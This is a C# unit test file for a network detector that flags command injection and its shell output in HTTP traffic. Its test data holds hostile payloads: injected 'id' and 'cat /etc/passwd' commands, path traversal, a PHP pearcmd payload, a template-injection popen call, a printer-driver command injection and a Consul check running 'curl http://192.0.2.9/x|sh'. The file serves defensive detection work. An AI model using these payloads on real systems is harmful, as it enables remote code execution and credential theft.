using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Detectors.Exploit;
using NetHawk.Core.Packets;
using NetHawk.Core.Peek;
using NetHawk.Core.Verdicts;

namespace NetHawk.Tests.Detectors;

public class CommandAnswerTests
{
    private const string Id = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", Accounts = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n";
    private const string Kernel = "Linux web01 5.4.0-150-generic #167-Ubuntu SMP Mon May 15 17:35:05 UTC 2023 x86_64 GNU/Linux\n", Files = "total 48\ndrwxr-xr-x 2 root root 4096 Jan 1 10:00 .\n";

    private static Events Ask(string request, string answer, bool isSplit = false)
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        var read = new List<PeekInfo>();
        void Say(bool server, string text)
        {
            for (var info = peek.Look(ref state, server, IpProtocol.Tcp, 40_000, 8080, Encoding.Latin1.GetBytes(text)); info is not null; info = info.Then) read.Add(info);
        }

        Say(false, request);
        string head = $"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {answer.Length}\r\n\r\n";
        Say(true, isSplit ? head : head + answer);
        if (isSplit) Say(true, answer);
        var run = new Events(new CommandAnswerDetector());
        run.Session("203.0.113.9", "10.0.0.7", 8080, application: AppProtocol.Http, peeks: [.. read]);
        return run;
    }

    private static string Get(string target, string header = "") => $"GET {target} HTTP/1.1\r\nHost: x\r\n{header}\r\n";

    private static string Post(string body, string type = "application/json") => $"POST /api/run HTTP/1.1\r\nHost: x\r\nContent-Type: {type}\r\nContent-Length: {body.Length}\r\n\r\n{body}";

    /// <summary>Slipped in behind a sign of the shell's, and answered: two witnesses.</summary>
    [Theory]
    [InlineData("/ping?host=127.0.0.1%3Bid", "<pre>PING 127.0.0.1\n" + Id)]
    [InlineData("/ping?host=127.0.0.1%0a/usr/bin/id", Id)]
    [InlineData("/diag?ip=1.1.1.1|cat+/etc/passwd", Accounts)]
    [InlineData("/a?b=`uname+-a`", Kernel)]
    [InlineData("/a?b=$(ls+-la)", Files)]
    public void A_command_that_is_slipped_in_and_answered_slows_its_sender_down(string target, string answer)
    {
        foreach (bool split in (bool[])[false, true])
            Assert.True(Ask(Get(target), answer, split).Found is [{ Class: ThreatClass.Exploit, WatchOnly: null, SoftOnly: not null }]);
    }

    [Theory]
    [InlineData("/uploads/x.php?c=id", "", Id, ThreatClass.Exploit)]
    [InlineData("/ping?host=x;id", "Cookie: session=1\r\n", Id, ThreatClass.Exploit)]
    [InlineData("/view?file=../../../../etc/passwd", "", Accounts, ThreatClass.WebAttack)]
    public void By_a_page_of_its_own_or_within_a_session_it_is_watched(string target, string header, string answer, ThreatClass told) =>
        Assert.True(Ask(Get(target, header), answer).Found is [{ WatchOnly: not null }] found && found[0].Class == told);

    [Fact]
    public void In_a_body_it_is_told_too()
    {
        Assert.Single(Ask(Post("{\"cmd\":\"uname -a\"}"), Kernel).Found);
        Assert.True(Ask(Post("{\"host\":\"192.0.2.1; id\"}"), Id).Found is [{ WatchOnly: null }]);
        Assert.Single(Ask(Post("x=1&z=system('id');", "application/x-www-form-urlencoded"), "->|" + Id + "|<-").Found);
    }

    /// <summary>A house's own agents take whole orders, without a session, and answer with what they print.</summary>
    [Theory]
    [InlineData("{\"cmd\":\"cd /srv && ls -la\"}", Files)]
    [InlineData("{\"cmd\":\"uptime; id\"}", Id)]
    [InlineData("{\"script\":\"#!/bin/sh\\nset -e; uname -a\"}", Kernel)]
    public void An_owners_order_is_watched(string body, string answer) => Assert.True(Ask(Post(body), answer).Found is [{ WatchOnly: not null }]);

    /// <summary>An article that shows it, a field of that name, a try that came to nothing, another command's output.</summary>
    [Theory]
    [InlineData("/manual/id.html", Id)]
    [InlineData("/manual?page=12", Id)]
    [InlineData("/list?sort=1&id=7", Id)]
    [InlineData("/list?x=1;id=7", Id)]
    [InlineData("/search?q=how+does+id_rsa+work", Id)]
    [InlineData("/ping?host=x;id", "<html><body>bad host</body></html>")]
    [InlineData("/ping?host=x;id", "request uid=4711 (gid=12)")]
    [InlineData("/ping?host=x;ls", Accounts)]
    public void Nothing_is_said_where_question_and_answer_do_not_belong_together(string target, string answer) => Assert.Empty(Ask(Get(target), answer).Found);

    [Theory]
    [InlineData("total 48 euros\n- and more", "")]
    [InlineData(" Volume in drive C has no label.\r\n Volume Serial Number is 1A2B-3C4D\r\n", CommandShown.Listing)]
    [InlineData("2: eth0: <UP> mtu 1500 qdisc\n    inet 10.0.0.7/24", CommandShown.Addresses)]
    [InlineData("Debian GNU/Linux 12, the Linux of choice", "")]
    [InlineData("uid=1", "")]
    public void What_commands_print_is_known(string text, string shown) => Assert.Equal(shown, CommandOutput.In(Encoding.ASCII.GetBytes(text)));

    /// <summary>A path named as a shell with a bare command, PHP's tag with a call; search engines, and pages whose parameter is called so.</summary>
    [Theory]
    [InlineData("/shell?pwd", true)]
    [InlineData("/cgi-bin/cmd?cat+/proc/cpuinfo", true)]
    [InlineData("/index.php?lang=../pearcmd&+config-create+/&/<?=system(%22id%22)?>+/tmp/x.php", true)]
    [InlineData("/users?id", false)]
    [InlineData("/shell?id=4", false)]
    [InlineData("/run?nightly", false)]
    [InlineData("/shell", false)]
    [InlineData("/search?q=%3C%3Fphp+echo+1", false)]
    public void An_address_that_is_a_command_is_told(string target, bool told) => Assert.Equal(told, SpokenCommand.InAddress(target));

    [Theory]
    [InlineData("/?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}", true)]
    [InlineData("/?q=python+__globals__+popen(", false)]
    [InlineData("/docs?page={{name}}", false)]
    public void A_template_that_runs_a_program_is_an_exploit(string text, bool told) => Assert.Equal(told, WebExploits.InText(text) is not null);

    /// <summary>A printer's description holds such a line honestly; a name or place of a printer does not. Owners' checks load nothing straight into a shell.</summary>
    [Theory]
    [InlineData("ipp://x/printers/a printer-info a\n*FoomaticRIPCommandLine: \"id\"", true)]
    [InlineData("*PPD-Adobe: \"4.3\"\n*FoomaticRIPCommandLine: \"gs -q\"", false)]
    [InlineData("/v1/agent/service/register {\"check\":{\"Args\":[\"sh\",\"-c\",\"curl http://192.0.2.9/x|sh\"]}}", true)]
    [InlineData("/v1/agent/service/register {\"check\":{\"Args\":[\"/usr/local/bin/check_disk\",\"80\"]}}", false)]
    public void What_a_service_is_made_to_run_is_told_from_what_it_runs(string text, bool told) => Assert.Equal(told, WebExploits.InText(text.ToLowerInvariant()) is not null);
}
